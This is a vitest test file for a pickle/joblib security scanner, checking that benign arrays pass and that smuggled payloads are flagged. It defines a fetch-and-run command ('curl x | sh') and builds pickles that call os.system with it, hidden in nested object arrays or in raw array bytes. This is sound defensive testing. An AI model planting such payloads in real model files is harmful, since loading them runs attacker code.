import { describe, expect, it } from "vitest";
import { joblibInlineArrays } from "./joblib-inline-arrays.js";
import { analyseBytes, rules, scanBytes } from "./test-helpers/analyse-bytes.js";
import { joblibFile, numpyArrayP4, osSystemP0, osSystemP4 } from "./test-helpers/fixtures.js";
import { pickle } from "./test-helpers/pickle-builder.js";

const CMD = "curl x | sh";
const joblib = { onBuild: joblibInlineArrays };

describe("joblib inline arrays", () => {
  it("accepts a well-formed joblib file: arrays aligned, unaligned and from joblib < 1.2", async () => {
    const bytes = joblibFile([
      { dtype: "i8", shape: [2] },
      { dtype: "f4", shape: [3, 5], alignment: null },
      { dtype: "f8", shape: [4], alignment: "absent" },
      { dtype: "U3", shape: [2] },
      { dtype: "b1", shape: [7] },
      { dtype: "f8", shape: [] },
      { dtype: "i2", shape: [2, 3, 4, 5] },
    ]);
    const a = await analyseBytes(bytes, joblib);
    expect(a.issues).toEqual([]);
    expect(a).toMatchObject({ complete: true, end: bytes.length });
    const r = await scanBytes(bytes);
    expect(r).toMatchObject({ format: "pickle", verdict: "safe", findings: [] });
  });

  it("reads the padding byte and skips exactly the array bytes", async () => {
    // The data is 16 bytes of 0xff (not opcodes): any misplacement breaks the analysis.
    const bytes = joblibFile([{ dtype: "i8", shape: [2], data: new Uint8Array(16).fill(0xff) }]);
    expect((await analyseBytes(bytes, joblib)).issues).toEqual([]);
  });

  it("accepts arrays pickled by old scikit-learn's bundled joblib", async () => {
    const bytes = joblibFile([{ dtype: "f8", shape: [2], module: "sklearn.externals.joblib.numpy_pickle" }]);
    const r = await scanBytes(bytes);
    expect(r).toMatchObject({ verdict: "safe", findings: [] });
  });

  it("follows the nested pickle of an object array", async () => {
    const benign = joblibFile([{ dtype: "O8", shape: [1], nested: numpyArrayP4() }]);
    expect(await scanBytes(benign)).toMatchObject({ verdict: "safe", findings: [] });
    const evil = joblibFile([{ dtype: "O8", shape: [1], nested: osSystemP4(CMD) }]);
    const r = await scanBytes(evil);
    expect(r.verdict).toBe("dangerous");
    expect(r.calls.map((c) => `${c.callable}${c.args}`)).toContain(`os.system('${CMD}',)`);
  });

  it("reads the nested pickle of an object array as plain pickle.load does (no inline arrays in it)", async () => {
    // Inside the nested pickle, a fake wrapper claims the payload after it as its raw data. joblib
    // reads that pickle with pickle.load, which runs the payload. (The aligned array first stops a
    // plain reading of the whole file at its padding byte, so only the nested reading can see it.)
    const payload = pickle().global("os", "system").str(CMD).tuple1().reduce().pop().bytes();
    const inner = joblibFile([{ dtype: "u1", shape: [payload.length], alignment: null, data: payload }]);
    const evil = joblibFile([
      { dtype: "i8", shape: [1] },
      { dtype: "O8", shape: [1], nested: inner },
    ]);
    const r = await scanBytes(evil);
    expect(r.verdict).toBe("dangerous");
    expect(r.imports.find((i) => i.module === "os")?.safety).toBe("dangerous");
  });

  it("finds a payload that plain pickle.load would run from the array bytes", async () => {
    // joblib.load reads these bytes as data, pickle.load as opcodes: the file may meet either loader.
    const data = osSystemP0(CMD).subarray(0, -1); // without its STOP: the outer stream goes on
    const evil = joblibFile([{ dtype: "u1", shape: [data.length], alignment: null, data }]);
    const joblibOnly = await analyseBytes(evil, joblib);
    expect(joblibOnly.imports.map((i) => i.module)).not.toContain("os");
    const r = await scanBytes(evil);
    expect(r.verdict).toBe("dangerous");
  });

  it("rejects array data that runs past the end of the file", async () => {
    const bytes = joblibFile([{ dtype: "f8", shape: [1000], data: new Uint8Array(10) }]);
    const a = await analyseBytes(bytes, joblib);
    expect(rules(a.issues)).toContain("pickle/truncated");
    expect(a.complete).toBe(false);
    expect((await scanBytes(bytes)).verdict).toBe("error");
  });

  it("rejects a wrapper whose state does not say where its data ends", async () => {
    const b = pickle().proto(4).str("joblib.numpy_pickle").str("NumpyArrayWrapper").stackGlobal();
    const noDict = b.emptyTuple().newobj().emptyList().build().stop();
    const a = await analyseBytes(noDict.bytes(), joblib);
    expect(rules(a.issues)).toEqual(["pickle/inline-data"]);
    expect(a.issues[0]?.message).toMatch(/not a dict/);

    const c = pickle().proto(4).str("joblib.numpy_pickle").str("NumpyArrayWrapper").stackGlobal();
    const noDtype = c
      .emptyTuple()
      .newobj()
      .emptyDict()
      .str("shape")
      .binint1(2)
      .tuple1()
      .setitem()
      .build()
      .stop();
    const d = await analyseBytes(noDtype.bytes(), joblib);
    expect(d.issues[0]?.message).toMatch(/dtype could not be read/);
  });

  it("recognises the wrapper rebuilt through copy_reg._reconstructor (protocols 0 and 1)", async () => {
    const b = pickle()
      .global("copy_reg", "_reconstructor")
      .mark()
      .global("joblib.numpy_pickle", "NumpyArrayWrapper");
    b.global("__builtin__", "object").none().tuple().reduce();
    b.mark().dict().unicode("shape").mark().int(3).tuple().setitem();
    b.unicode("dtype")
      .global("numpy", "dtype")
      .mark()
      .unicode("u1")
      .int("00")
      .int("01")
      .tuple()
      .reduce()
      .setitem();
    b.build().raw(0xff, 0xfe, 0xfd).none().stop(); // 3 bytes of data, not opcodes
    const a = await analyseBytes(b.bytes(), joblib);
    expect(a.issues).toEqual([]);
    expect(a.complete).toBe(true);
  });
});
